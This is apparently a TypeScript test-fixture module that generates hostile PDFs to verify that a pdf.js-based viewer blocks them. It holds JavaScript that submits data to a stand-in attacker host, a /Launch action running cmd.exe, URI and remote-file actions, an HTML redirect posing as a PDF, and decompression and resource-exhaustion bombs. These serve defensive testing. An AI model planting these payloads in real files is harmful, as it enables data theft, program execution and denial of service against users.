/**
 * Hostile PDFs for the dossier's pdf.js viewer, handcrafted object by object (a valid xref unless
 * the attack is a broken one). Written to tests/fixtures/hostile/pdf/ by write-pdf-corpus.ts there; checked in Chromium
 * by tests/e2e/hostile-pdf.test.ts: no script runs, no navigation, no hang, a clear message.
 */

/**
 * What the viewer must show within 2 s: the page drawn, a message that the file cannot be shown,
 * or ('either') one of those or the notice that the file is taking long (the worker keeps parsing).
 */
export type PdfOutcome = 'rendered' | 'refused' | 'either';

export interface HostilePdf {
  name: string;
  attack: string;
  bytes: () => Uint8Array;
  outcome: PdfOutcome;
}

import { zlibSync } from 'fflate';

const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0) & 0xff);

/** 64 MiB of spaces (valid, empty drawing) deflated: a content stream that inflates 1000 times. */
function flateBomb(): string {
  const packed = zlibSync(new Uint8Array(64 * 1024 * 1024).fill(0x20), { level: 9 });
  let body = '';
  for (let i = 0; i < packed.length; i += 8192) body += String.fromCharCode(...packed.subarray(i, i + 8192));
  return `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${body}\nendstream`;
}

/** A PDF from object bodies (object n is objects[n-1]), with a correct xref and trailer. */
export function buildPdf(objects: readonly string[], { trailer = '', header = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n' } = {}): string {
  let out = header;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return out;
}

const TEXT = 'BT /F1 24 Tf 72 720 Td (Curriculum vitae) Tj ET';
const stream = (content: string, extra = '') => `<< /Length ${content.length} ${extra}>>\nstream\n${content}\nendstream`;

/** A one-page document; `catalog` and `page` add entries to the catalog and the page. */
function onePage({ catalog = '', page = '', mediaBox = '[0 0 612 792]', extra = [] as string[], count = 1 } = {}): string {
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page}>>`,
    stream(TEXT),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extra,
  ]);
}

const JS = `app.alert('pwned'); this.submitForm('http://evil.example/steal'); app.launchURL('http://evil.example/', true);`;
const VALID = onePage();

export const HOSTILE_PDFS: readonly HostilePdf[] = [
  { name: 'control-valid.pdf', attack: 'none: a plain one-page CV (the harness can tell a page was drawn)', bytes: () => latin1(VALID), outcome: 'rendered' },
  { name: 'javascript-openaction.pdf', attack: 'JavaScript run on open (alert, form submit, URL launch)', bytes: () => latin1(onePage({ catalog: `/OpenAction << /S /JavaScript /JS (${JS}) >>` })), outcome: 'rendered' },
  { name: 'javascript-names-tree.pdf', attack: 'document-level JavaScript in the Names tree', bytes: () => latin1(onePage({ catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>', extra: [`<< /S /JavaScript /JS (${JS}) >>`] })), outcome: 'rendered' },
  { name: 'javascript-page-open.pdf', attack: 'JavaScript in the page\u2019s open action (/AA /O)', bytes: () => latin1(onePage({ page: `/AA << /O << /S /JavaScript /JS (${JS}) >> >>` })), outcome: 'rendered' },
  { name: 'launch-action.pdf', attack: 'a /Launch action that starts a program on open', bytes: () => latin1(onePage({ catalog: '/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>' })), outcome: 'rendered' },
  { name: 'uri-openaction.pdf', attack: 'a /URI action on open (navigate away)', bytes: () => latin1(onePage({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/opened) >>' })), outcome: 'rendered' },
  { name: 'uri-link-annotation.pdf', attack: 'a full-page link annotation to an external URL', bytes: () => latin1(onePage({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/clicked) >> >>'] })), outcome: 'rendered' },
  { name: 'submitform-widget.pdf', attack: 'a form field that submits to a remote URL', bytes: () => latin1(onePage({ catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 612 792] /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/form) >> >> >>'] })), outcome: 'rendered' },
  { name: 'xfa-form.pdf', attack: 'an XFA form with a script (XFA must stay off)', bytes: () => latin1(onePage({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true', extra: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa")</script></event></subform></template></xdp:xdp>')] })), outcome: 'either' },
  { name: 'gotor-remote.pdf', attack: 'a /GoToR action opening another file', bytes: () => latin1(onePage({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>' })), outcome: 'rendered' },
  { name: 'page-count-1e9.pdf', attack: 'a page tree claiming a billion pages', bytes: () => latin1(onePage({ count: 1_000_000_000 })), outcome: 'either' },
  { name: 'page-size-huge.pdf', attack: 'a page 14,400 by 14,400 points (200 inches: a canvas too large to allocate)', bytes: () => latin1(onePage({ mediaBox: '[0 0 14400 14400]' })), outcome: 'either' },
  { name: 'page-size-1e9.pdf', attack: 'a page a billion points wide', bytes: () => latin1(onePage({ mediaBox: '[0 0 1000000000 1000000000]' })), outcome: 'either' },
  { name: 'page-size-negative.pdf', attack: 'a page with a negative, inverted media box', bytes: () => latin1(onePage({ mediaBox: '[612 792 -99999 -99999]' })), outcome: 'either' },
  { name: 'page-tree-loop.pdf', attack: 'a page tree whose kid is its own parent (infinite loop)', bytes: () => latin1(buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])), outcome: 'refused' },
  { name: 'malformed-xref.pdf', attack: 'an xref table pointing at the wrong offsets', bytes: () => latin1(VALID.replace(/0000000(\d{3}) 00000 n/g, '0000000999 00000 n')), outcome: 'either' },
  { name: 'startxref-garbage.pdf', attack: 'a startxref far past the end of the file', bytes: () => latin1(VALID.replace(/startxref\n\d+/, 'startxref\n999999999')), outcome: 'either' },
  { name: 'truncated-half.pdf', attack: 'the first half of a valid file', bytes: () => latin1(VALID.slice(0, Math.floor(VALID.length / 2))), outcome: 'either' },
  { name: 'truncated-header.pdf', attack: 'only the %PDF header', bytes: () => latin1('%PDF-1.7\n'), outcome: 'refused' },
  { name: 'empty.pdf', attack: 'an empty file', bytes: () => new Uint8Array(0), outcome: 'refused' },
  { name: 'not-a-pdf.pdf', attack: 'an HTML page with a script, named .pdf', bytes: () => latin1('<html><script>parent.location="http://evil.example/"</script></html>'), outcome: 'refused' },
  { name: 'encrypted-user-password.pdf', attack: 'encrypted with a user password the panel does not have', bytes: () => latin1(buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>', stream('garbled'), `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <${'3f'.repeat(32)}> /U <${'a1'.repeat(32)}> >>`], { trailer: `/Encrypt 5 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] ` })), outcome: 'refused' },
  { name: 'flate-bomb-content.pdf', attack: 'a page content stream of 60 KB that inflates to 64 MB', bytes: () => latin1(onePage().replace(stream(TEXT), flateBomb())), outcome: 'either' },
  { name: 'deep-nesting.pdf', attack: 'an array nested 100,000 levels deep', bytes: () => latin1(onePage({ page: `/Deep ${'['.repeat(100_000)}${']'.repeat(100_000)}` })), outcome: 'either' },
  { name: 'huge-dimensions-image.pdf', attack: 'an inline image declaring 100,000 x 100,000 pixels', bytes: () => latin1(onePage().replace(stream(TEXT), stream(`q 100 0 0 100 72 600 cm BI /W 100000 /H 100000 /CS /G /BPC 8 ID \x00\x00\x00 EI Q ${TEXT}`))), outcome: 'either' },
];
